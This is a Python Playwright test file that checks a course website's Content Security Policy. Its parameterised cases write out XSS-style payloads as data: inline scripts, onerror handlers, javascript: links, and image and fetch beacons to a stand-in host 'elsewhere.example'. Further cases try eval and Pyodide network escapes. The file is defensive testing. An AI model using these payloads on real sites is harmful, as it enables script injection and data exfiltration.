"""The content security policy, on: pages and exercises work under it, and what it forbids does not happen.

Nothing here bypasses it. A refusal is an error in the console, and by that alone fails a test that did not ask for it.
"""

import json
import re
import shutil

import pytest
from playwright.sync_api import expect

from exercises.catalog.stage_tracker.journey import HERON, StageTracker
from exercises.catalog.vignette.journey import AfterTheBridgeGoes
from tests.support.browsing import REFUSALS
from tests.support.serving import built_site
from tools.bundle import policy

REFUSED = ["refused:", "Content Security Policy", "request to another host: https://elsewhere"]
"""For tests that try what is forbidden. What gets out goes to a proxy, is noted as CONNECT, and is not passed over."""

NETWORK = ("fetch", "XMLHttpRequest", "WebSocket", "WebTransport", "EventSource", "Worker", "importScripts",
           "BroadcastChannel", "FontFace", "indexedDB", "caches", "eval")
"""What could send something away from a worker, or leave it where another page finds it."""

IN_THE_WORKER = """
(() => {
    // Taken before the worker lets go of it.
    const channel = new BroadcastChannel('course-test');
    const make = globalThis._createPyodideModule;
    let module = null;
    globalThis._createPyodideModule = async (settings) => (module = await make(settings));
    const left = (names) => names.filter((name) => {
        for (let at = globalThis; at; at = Object.getPrototypeOf(at)) {
            const own = Object.getOwnPropertyDescriptor(at, name);
            if (own && (own.value !== undefined || own.get)) return true;
        }
        return false;
    });
    channel.onmessage = async ({data}) => {
        if (data.names) channel.postMessage({said: left(data.names)});
        if (data.python) {
            const said = await module.API.public_api.runPythonAsync(data.python).catch(String);
            channel.postMessage({said});
        }
    };
})();
"""
"""Put after Emscripten's loader: lets the test, and nobody else, look about in the worker and speak with Python. The
browser's own way into a worker needs ``eval``, which is gone by then."""

ASK = """(question) => new Promise((resolve) => {
    const channel = new BroadcastChannel('course-test');
    channel.onmessage = ({data}) => { channel.close(); resolve(data.said); };
    channel.postMessage(question);
})"""

TRIES = """
import js, json
names = %r
said = {"there": [name for name in names if getattr(js, name, None) is not None]}

async def by_url():
    from pyodide.http import open_url
    open_url("search/search_index.json")

async def by_fetch():
    from pyodide.http import pyfetch
    await pyfetch("search/search_index.json")

async def by_import():
    from pyodide.code import run_js
    await run_js("import('https://elsewhere.example/x.js')")

async def by_function():
    js.Function.new("return 1")

async def by_constructor():
    js.Object.getPrototypeOf(js.Object.keys).constructor("return 1")

async def by_timer():
    js.setTimeout("1")

async def by_prototype():
    at = js.self
    while at is not None:
        for name in names:
            found = js.Object.getOwnPropertyDescriptor(at, name)
            if found is not None and (getattr(found, "value", None) is not None or getattr(found, "get", None) is not None):
                return
        at = js.Object.getPrototypeOf(at)
    raise LookupError

for way in (by_url, by_fetch, by_import, by_function, by_constructor, by_timer, by_prototype):
    try:
        await way()
        said[way.__name__] = "done"
    except Exception:
        said[way.__name__] = "refused"
json.dumps(said)
"""


def served_headers(folder):
    """What a host sends that takes the header file: patterns to headers, later ones beside earlier ones."""
    found, pattern = {}, ""
    for line in (folder / policy.HEADERS).read_text("utf-8").splitlines():
        if not line.startswith(" "):
            pattern = line.removeprefix("/")
            found[pattern] = {}
        else:
            name, _, value = line.strip().partition(": ")
            # Such a host joins what several rules say of one file; a browser obeys each policy of the list.
            before = found["*"].get(name) if pattern != "*" else None
            found[pattern][name] = f"{before}, {value}" if before else value
    return found


@pytest.fixture(params=["in the pages", "in the pages and by headers"])
def held(request, site, serve_site):
    """The site on a plain host, and on one that takes the header file."""
    return site if request.param == "in the pages" else serve_site(headers=served_headers(built_site()))


@pytest.fixture
def watched(new_page):
    """A page that says aloud what the policy refuses."""

    def open_page(**options):
        page = new_page(**options)
        page.add_init_script(REFUSALS)
        return page

    return open_page


@pytest.mark.browser
def test_every_page_carries_one_policy_before_any_script():
    folder = built_site()
    made = set()
    for path in sorted(folder.rglob("*.html")):
        page = path.read_text("utf-8")
        found = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
        assert len(found) == 1, f"{path}: built with python3 -m tools build?"
        assert page.index("http-equiv=\"Content-Security-Policy\"") < page.index("<script"), path
        assert page.index("charset") < 1024, path
        made.add(found[0])
        assert policy.hashes(page) <= set(re.split("[; ]+", found[0])), path
    assert len(made) == 1
    scripts = next(part for part in made.pop().split("; ") if part.startswith("script-src"))
    assert "unsafe-inline" not in scripts and "'unsafe-eval'" not in scripts and "unsafe-hashes" not in scripts


def test_no_kind_of_page_meets_a_refusal(held, watched):
    """A page of each folder with its fonts, styles and scripts, under the policy in the page and under that in the header.

    Every page of all is walked under its own policy in ``test_pages``, which counts refusals as well.
    """
    page = watched()
    for address in {address.removesuffix("/").rpartition("/")[0]: address for address in held.pages()}.values():
        page.goto(address, wait_until="load")
        assert page.evaluate("() => window.refusals") == [], address
        assert page.locator("main h1, main h2").first.is_visible(), address


def test_the_stage_tracker_goes_live_to_a_result_and_a_file(held, watched):
    x01 = StageTracker(watched()).open_live(held)
    x01.fill_in("Heron", HERON)
    x01.show(asked=False)
    name, text = x01.saved_by("export_json")
    assert name.endswith(".json") and '"stage_tracker"' in text
    assert x01.shown.locator("svg").first.is_visible()
    assert x01.page.evaluate("() => window.refusals") == []


def test_a_vignette_plays_one_choice(held, watched):
    v_pa = AfterTheBridgeGoes(watched()).open_live(held)
    v_pa.begin("lead")
    v_pa.choose("refer")
    assert v_pa.page.evaluate("() => window.refusals") == []


def test_search_light_and_dark_work(held, watched, until):
    page = watched()
    page.goto(held.url + "modules/")
    box = page.get_by_role("textbox", name="Search").first
    box.click()
    box.fill("Tuckman")
    until(lambda: page.locator(".md-search-result__item").count() > 0, timeout=120, why="search found nothing")
    # Enter goes to what was found; a form that were sent would carry the words into an address.
    box.press("Enter")
    until(lambda: page.url != held.url + "modules/", why="Enter led nowhere")
    assert "query=" not in page.url
    before = page.locator("body").get_attribute("data-md-color-scheme")
    page.locator("label[for^=__palette]:visible, [data-md-component=palette] label:visible").first.click()
    expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", before)
    assert page.evaluate("() => window.refusals") == []


def test_search_works_on_a_page_that_a_host_shows_at_any_address(site, watched, until):
    """The page for what is missing finds its scripts, and the search its list of words, from wherever it is shown."""
    page = watched(allow=["404"])
    page.goto(site.url + "modules/no/such/page/")
    box = page.get_by_role("textbox", name="Search").first
    box.click()
    box.fill("Tuckman")
    until(lambda: page.locator(".md-search-result__item").count() > 0, timeout=120, why="search found nothing")
    assert page.evaluate("() => window.refusals") == []


@pytest.mark.parametrize(
    "what, act, directive",
    [
        ("an inline script", "() => { const one = document.createElement('script'); one.textContent = 'window.ran = 1';"
         " document.body.append(one); }", "script-src-elem"),
        ("a handler", "() => { const one = document.createElement('div'); one.innerHTML ="
         " '<img src=data:, onerror=\"window.ran = 1\">'; document.body.append(one); }", "script-src-attr"),
        ("a link that runs", "() => { const one = document.createElement('a'); one.href = 'javascript:window.ran = 1';"
         " document.body.append(one); one.click(); }", "script-src-elem"),
        ("another host's script", "() => { const one = document.createElement('script');"
         " one.src = 'https://elsewhere.example/x.js'; document.body.append(one); }", "script-src-elem"),
        ("a picture that tells", "() => { new Image().src = 'https://elsewhere.example/?told'; }", "img-src"),
        ("a message that tells", "() => { fetch('https://elsewhere.example/?told').catch(() => 0); }", "connect-src"),
        ("a form that tells", "() => { const one = document.createElement('form'); one.action = location.href;"
         " document.body.append(one); one.requestSubmit(); }", "form-action"),
        ("a frame", "() => { const one = document.createElement('iframe'); one.src = location.href;"
         " document.body.append(one); }", "frame-src"),
    ],
)
def test_what_is_forbidden_does_not_happen(site, watched, until, what, act, directive):
    """Each is tried from inside the page, as markup that slipped through would."""
    page = watched(allow=REFUSED)
    page.goto(site.url)
    page.evaluate(act)
    until(lambda: page.evaluate("() => window.refusals"), why=f"{what} was not refused")
    refused = page.evaluate("() => window.refusals")
    assert [one.split()[0] for one in refused] == [directive]
    assert page.evaluate("() => window.ran") is None
    assert page.url == site.url


def test_words_do_not_become_code(site, watched):
    """``eval`` and ``new Function``, tried by a script of the site's own, as a library would."""
    page = watched(allow=REFUSED)
    code = "window.said = [];for (const make of [() => eval('1'), () => new Function('return 1')()])" \
           "{ try { said.push(make()); } catch (error) { said.push(error.name); } }"
    page.route("**/assets/javascripts/frame.js", lambda route: route.fulfill(content_type="text/javascript", body=code))
    page.goto(site.url)
    assert page.evaluate("() => window.said") == ["EvalError", "EvalError"]


@pytest.fixture(scope="module")
def open_to_python(tmp_path_factory):
    """The built site, with a way for the test to speak with Python; all else is as it was."""
    folder = tmp_path_factory.mktemp("open") / "site"
    shutil.copytree(built_site(), folder)
    loader = next((folder / "assets" / "course").glob("pyodide.asm.*.js"))
    text = loader.read_text("utf-8")
    loader.write_text(text + IN_THE_WORKER, "utf-8", newline="")
    return folder


def test_nothing_leaves_the_worker_once_python_runs(open_to_python, serve_site, watched):
    served = serve_site(folder=open_to_python)
    x01 = StageTracker(watched()).open_live(served)
    asked = len(served.requests)
    # In JavaScript: by name, and by the prototypes behind the name.
    assert x01.page.evaluate(ASK, {"names": list(NETWORK)}) == []
    # In Python: by the same names, and by Pyodide's own ways.
    said = json.loads(x01.page.evaluate(ASK, {"python": TRIES % (NETWORK,)}))
    assert said.pop("there") == []
    assert len(said) == 7 and set(said.values()) == {"refused"}, said
    # What the test itself imported may lie outside the small library; nothing else was asked for.
    assert {path for path, _ in served.requests[asked:]} <= {path for path, _ in served.asked("*library-whole*")}


def test_before_the_boot_the_same_ways_lead_out(site, page):
    """That the ways which the test above tries are ways at all: the search's worker has them still."""
    page.goto(site.url)
    page.get_by_role("textbox", name="Search").first.click()
    worker = page.workers[0] if page.workers else page.wait_for_event("worker")
    there = worker.evaluate("(names) => names.filter((name) => globalThis[name] !== undefined)", list(NETWORK))
    assert set(there) >= {"fetch", "XMLHttpRequest", "WebSocket", "indexedDB", "caches", "eval"}


def test_the_whole_library_still_comes_when_it_is_missed(open_to_python, serve_site, watched):
    """The one thing that is fetched later, by the page's own hand and from this site."""
    served = serve_site(folder=open_to_python)
    x01 = StageTracker(watched()).open_live(served)
    assert served.asked("*library-whole*") == [], "something tried for at every start is missing from the small library"
    # A module of a package whose other half is here, and one of its own.
    said = x01.page.evaluate(ASK, {"python": "import json.tool, colorsys; str(colorsys.rgb_to_hsv(0, 0, 1)[2]) + json.tool.__name__"})
    assert said == "1json.tool"
    # What nobody has is told as what it is, and is not fetched for.
    said = x01.page.evaluate(ASK, {"python": "import winreg"})
    assert "ModuleNotFoundError" in said
    assert [status for _, status in served.asked("*library-whole*")] == [200]
